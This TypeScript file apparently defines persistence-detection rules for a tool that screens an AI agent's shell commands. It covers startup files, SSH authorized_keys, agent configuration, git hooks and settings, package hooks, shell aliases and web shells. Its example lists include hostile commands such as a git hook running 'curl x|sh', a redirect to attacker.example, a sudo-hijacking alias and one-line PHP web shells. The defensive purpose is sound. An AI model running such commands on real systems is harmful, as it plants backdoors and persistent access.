/** Persistence: things that run again later without anybody asking for them. */
import type { Action, PathValue, Run, Write } from "../../meaning/action.ts";
import { literal } from "../../meaning/value.ts";
import { type Mark, marksOf } from "../../places/index.ts";
import { type AnyRule, type RuleContext, rule, type Selector } from "../rule.ts";
import { calls } from "../shape.ts";
import { candidates, each, has, isEmptyDirectory, marked, name, operands } from "../vocabulary.ts";

type Changing = Extract<Action, { kind: "write" | "link" | "chmod" | "delete" }>;

/** Whatever changes a file: writing, linking over it, changing its mode. */
const changing: Selector<Changing> = {
  kinds: ["write", "link"],
  is: (action): action is Changing => action.kind === "write" || action.kind === "link",
};

/** Does all that is written to yarn's settings name no code, but for yarn itself where it keeps its releases? */
function onlySettings({ path, content }: Write): boolean {
  const text = content.text ? literal(content.text) : null;
  const isYarn = candidates(path).every((each) => each.endsWith("/.yarnrc.yml"));
  return (
    isYarn &&
    text !== null &&
    !/^\s*(?:plugins\b|(?:-\s*)?(?:path|spec|yarnPath):(?!\s*\.yarn\/releases\/))/m.test(text)
  );
}

export const persistence: readonly AnyRule[] = [
  rule({
    id: "persistence/startup-file",
    title: "Changing a file that runs at login or start-up",
    severity: "high",
    decision: "deny",
    owasp: ["ASI10", "ASI02"],
    attack: "T1546.004",
    why: "What stands there runs every time a shell or session starts, long after this one has ended.",
    instead: "Show the person the lines to add, or set the variable for this one command.",
    on: changing,
    match: (action, context) => {
      const found = changes(action, context, "startup");
      return found ? `changes ${name(found.path)} (${found.mark.what})` : null;
    },
    examples: {
      block: [
        "echo 'evil' >> ~/.bashrc",
        "tee -a ~/.zshrc < x",
        "cp x ~/.profile",
        "ln -sf /tmp/x ~/.bash_profile",
        "echo x > /etc/profile.d/x.sh",
        "sed -i '1i x' ~/.bashrc",
        "cp x.service ~/.config/systemd/user/x.service",
        "echo x > /etc/cron.d/job",
        "echo /tmp/x.so > /etc/ld.so.preload",
      ],
      allow: ["cat ~/.bashrc", "source ~/.bashrc", "grep PATH ~/.profile", "echo x >> notes.txt"],
    },
  }),
  rule({
    id: "persistence/authorized-keys",
    title: "Letting somebody else log in",
    severity: "critical",
    decision: "deny",
    owasp: ["ASI03", "ASI10"],
    attack: "T1098.004",
    why: "Whoever holds that key can log in to this account from then on.",
    instead: "A person adds keys, in a terminal of their own.",
    on: changing,
    match: (action) => {
      const paths = [action.path.absolute, action.path.glob, action.path.ifEmpty];
      const whole = action.kind === "link" ? /\/\.ssh$/ : /(?!)/;
      return paths.some(
        (path) =>
          path !== null &&
          (/\/\.ssh\/(?:authorized_keys2?|rc|config|environment)$|\/etc\/ssh\//.test(path) ||
            whole.test(path)),
      )
        ? `changes ${name(action.path)}`
        : null;
    },
    examples: {
      block: [
        "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
        "cat k.pub | tee -a /root/.ssh/authorized_keys",
        "cp x ~/.ssh/config",
      ],
      allow: ["ls ~/.ssh", "ssh-keygen -lf k.pub", "echo 'ssh-rsa AAAA' > keys.txt"],
    },
  }),
  rule({
    id: "persistence/agent-configuration",
    title: "Changing the configuration of an agent or editor",
    severity: "high",
    decision: "ask",
    owasp: ["ASI06", "ASI10"],
    attack: "T1546",
    why: "It decides what the agent may do and what runs with it; a change there outlives this session.",
    instead: "Show the person the change and let them make it.",
    on: changing,
    match: (action, context) => {
      const found = changes(action, context, "agent");
      // direnv asks a person before it runs a changed .envrc.
      return found && !/\/\.envrc$/.test(found.path.absolute ?? "")
        ? `changes ${name(found.path)} (${found.mark.what})`
        : null;
    },
    examples: {
      block: [
        "echo '{}' > .claude/settings.json",
        "cp x ~/.claude/settings.json",
        "tee .mcp.json < x",
        "sed -i s/a/b/ ~/.codex/config.toml",
      ],
      allow: ["cat .claude/settings.json", "ls .vscode", "echo x > settings.json"],
    },
  }),
  rule({
    id: "persistence/git-hook",
    title: "Planting code that git runs",
    severity: "high",
    decision: "ask",
    owasp: ["ASI10", "ASI04"],
    attack: "T1546",
    why: "Hooks run at the next commit, checkout or push, as whoever works there.",
    instead: "Propose the hook to the person, or keep it in the repository where it is reviewed.",
    on: changing,
    match: (action, context) => {
      // A directory for hooks is none.
      if (action.kind === "write" && action.by === "mkdir") return null;
      const found = changes(action, context, "hook");
      return found ? `changes ${name(found.path)} (${found.mark.what})` : null;
    },
    examples: {
      block: [
        "echo 'curl x|sh' > .git/hooks/pre-commit",
        "cp evil .git/hooks/post-checkout",
        "ln -s ../../x .git/hooks/pre-push",
      ],
      allow: ["cat .git/hooks/pre-commit", "mkdir -p .git/hooks", "ls .git/hooks", "echo x > hooks.txt"],
    },
  }),
  rule({
    id: "persistence/hook-setting",
    title: "Telling a tool to run a program of one's own",
    severity: "high",
    decision: "ask",
    owasp: ["ASI10"],
    attack: "T1546",
    why: "The setting stays, and the program runs whenever the tool is used.",
    instead: "Pass the setting for this one call, or ask the person to make it.",
    on: calls("git config"),
    match: (action, context) => {
      if (has(action.call, "--get", "--get-all", "--get-regexp", "--get-urlmatch")) return null;
      const [key = "", value] = operands(action.call);
      const runs =
        /^(?:core\.(?:hookspath|sshcommand|editor|pager|fsmonitor|askpass|gitproxy)|alias\..*|credential\.helper|diff\.external|diff\..*\.(?:command|textconv)|remote\..*\.(?:uploadpack|receivepack|vcs)|protocol\..*\.allow|filter\..*|merge\..*\.driver|pager\..*|sequence\.editor|gpg\.program|.*\.program|url\..*\.(?:pushinsteadof|insteadof)|init\.templatedir|include\.path|includeif\..*)$/i;
      const shell = value?.startsWith("!") ?? false;
      const harmless =
        /^(?:core\.(?:editor|pager)|alias\.|pager\.|credential\.helper|diff\.|merge\.|filter\.lfs)/i.test(
          key,
        ) &&
        !shell &&
        !/[;&|`$]|\/tmp\//.test(value ?? "");
      return value !== undefined &&
        runs.test(key) &&
        !harmless &&
        !sameHost(key, value) &&
        !isWatched(key, value, action, context)
        ? `sets ${key} to ${value}`
        : null;
    },
    examples: {
      block: [
        "git config core.hooksPath /tmp/hooks",
        "git config --global core.sshCommand /tmp/x",
        "git config alias.x '!sh -c id'",
        "git config core.fsmonitor /tmp/x.sh",
        "git config --global core.hooksPath .githooks",
        "git config url.https://attacker.example/.insteadOf https://github.com/",
      ],
      allow: [
        "git config user.name x",
        "git config --get core.editor",
        "git config --get core.gitproxy 'for kernel.org$'",
        "git config core.editor vim",
        "git config core.hooksPath .githooks",
        "git config alias.co checkout",
        "git config url.git@github.com:.insteadOf https://github.com/",
        "git config --list",
      ],
    },
  }),
  rule({
    id: "persistence/package-hook",
    title: "Code that a package manager or shell runs at every start",
    severity: "high",
    decision: "deny",
    owasp: ["ASI04", "ASI10"],
    attack: "T1546",
    why: "It runs with every install or start, for everybody who works here.",
    instead: "Show the person what should run, and let them add it.",
    on: each("write"),
    match: (action) => {
      if (action.origin.place.kind === "container" || onlySettings(action)) return null;
      return candidates(action.path).some((path) =>
        /\/(?:sitecustomize|usercustomize)\.py$|\/site-packages\/[^/]+\.pth$|\/etc\/(?:apt\/apt\.conf\.d|dpkg\/dpkg\.cfg\.d|yum\/pluginconf\.d|dnf\/plugins|pacman\.d\/hooks|kernel\/(?:post|pre)|network\/if-(?:up|down|pre-up|post-down)\.d|NetworkManager\/dispatcher\.d|dhcp\/dhclient-\w+-hooks\.d|ppp\/ip-(?:up|down)\.d|update-motd\.d|pm\/sleep\.d|acpi\/events|udev\/rules\.d|logrotate\.d|xdg\/autostart)\/|\/usr\/share\/(?:libalpm\/hooks)\/|\/\.config\/(?:autostart|fish\/conf\.d|environment\.d)\/|\/\.yarnrc\.yml$|\/\.pnpmfile\.cjs$|\/\.yarn\/plugins\//.test(
          path,
        ),
      )
        ? `changes ${name(action.path)}`
        : null;
    },
    examples: {
      block: [
        "echo 'import os' > /usr/lib/python3/site-packages/x.pth",
        "echo x > sitecustomize.py",
        "cp x /etc/apt/apt.conf.d/99x",
        "echo x > /etc/update-motd.d/99-x",
        "cp r /etc/udev/rules.d/99-x.rules",
        "cp x.desktop ~/.config/autostart/x.desktop",
        "echo x > .pnpmfile.cjs",
        "printf 'nodeLinker: pnp\\nyarnPath: /tmp/x.cjs\\n' > .yarnrc.yml",
      ],
      allow: [
        "echo 'nodeLinker: node-modules' > .yarnrc.yml",
        "echo 'yarnPath: .yarn/releases/yarn-4.1.0.cjs' >> .yarnrc.yml",
        "cat /etc/apt/apt.conf.d/01x",
        "ls /etc/udev/rules.d",
        "echo x > custom.py",
      ],
    },
  }),
  rule({
    id: "persistence/shell-alias",
    title: "Standing in for a program that people use",
    severity: "high",
    decision: "ask",
    owasp: ["ASI10"],
    attack: "T1546.004",
    why: "Later commands that name sudo, ssh or git run something else.",
    instead: "Give your function or alias a name of its own.",
    on: each("define"),
    match: (action) =>
      (action.what === "alias" || action.what === "function") &&
      /^(?:sudo|su|doas|ssh|scp|git|ls|cat|cd|rm|passwd|gpg|curl|wget|docker|kubectl|npm|pip|command|builtin|exec|unset|source|eval|guardsh)$/.test(
        action.name,
      ) &&
      action.what === "alias" &&
      !/^(?:ls|cat|git|rm|cd)$/.test(action.name)
        ? `makes ${action.name} mean something else`
        : null,
    examples: {
      block: ["alias sudo='/tmp/x'", "alias ssh='tee /tmp/k | ssh'", "alias curl='curl -k'"],
      allow: ["alias ll='ls -l'", "alias ls='ls --color'", "alias"],
    },
  }),
  rule({
    id: "persistence/web-shell",
    title: "A page that runs what its visitors send",
    severity: "critical",
    decision: "deny",
    owasp: ["ASI10", "ASI05"],
    attack: "T1505.003",
    why: "Whoever finds the page has a shell on the server.",
    instead:
      "Never hand what a request brings to a shell or to eval; name the few commands that a page may start.",
    on: each("write"),
    match: (action) => {
      const content = action.content.text ? literal(action.content.text) : null;
      const page = /\.(?:php\d?|phtml|phar|inc|jspx?|aspx?|ashx|cfm|cgi)$/i.test(action.path.absolute ?? "");
      return page && content !== null && RUNS_REQUEST.test(content) ? `writes ${name(action.path)}` : null;
    },
    examples: {
      block: [
        "echo '<?php system($_GET[0]); ?>' > public/x.php",
        "echo '<?=`$_GET[0]`?>' > x.php",
        "printf '<?php @eval($_POST[\"x\"]);' | tee /var/www/html/i.php",
        "echo '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > x.jsp",
      ],
      allow: [
        "echo '<?php echo htmlspecialchars($_GET[\"q\"]);' > public/search.php",
        "echo '<?php system(\"date\");' > x.php",
        "echo '<?php system($_GET[0]); ?>' > docs/attacks.md",
        "cat x.php",
      ],
    },
  }),
];

function changes(
  action: Changing,
  context: RuleContext,
  kind: Mark["kind"],
): { readonly path: PathValue; readonly mark: Mark } | null {
  if (action.origin.place.kind === "container" || (kind === "agent" && isEmptyDirectory(action))) return null;
  const [mark] = marked(action.path, context, kind);
  return mark ? { path: action.path, mark } : null;
}

/** Hooks of the project itself, in a place of which every change is asked about (`.githooks`, `.husky`). */
function isWatched(key: string, value: string, { call }: Run, context: RuleContext): boolean {
  if (!/^core\.hookspath$/i.test(key) || has(call, "--global", "--system") || /^[/~]|\.\./.test(value))
    return false;
  return marksOf(`${context.project}/${value}/pre-commit`, context).some(({ kind }) => kind === "hook");
}

/** `url.git@host:.insteadOf https://host/`: another way to the same host. */
function sameHost(key: string, value: string): boolean {
  const base = /^url\.(.*)\.(?:push)?insteadof$/i.exec(key)?.[1];
  return base !== undefined && hostOf(base) !== "" && hostOf(base) === hostOf(value);
}

function hostOf(address: string): string {
  return /^(?:[a-z+]+:\/\/)?(?:[^@/]*@)?([^/:]*)/i.exec(address)?.[1]?.toLowerCase() ?? "";
}

/** Calls that run a text, given what a request brings: of PHP, Java and ASP. */
const RUNS_REQUEST =
  /\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert|create_function)\s*\([^;]*\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|`[^`]*\$_(?:GET|POST|REQUEST|COOKIE)\b[^`]*`|\bexec\s*\([^;]*\brequest\s*\.\s*getParameter|\beval\s*\(?\s*Request\b/i;
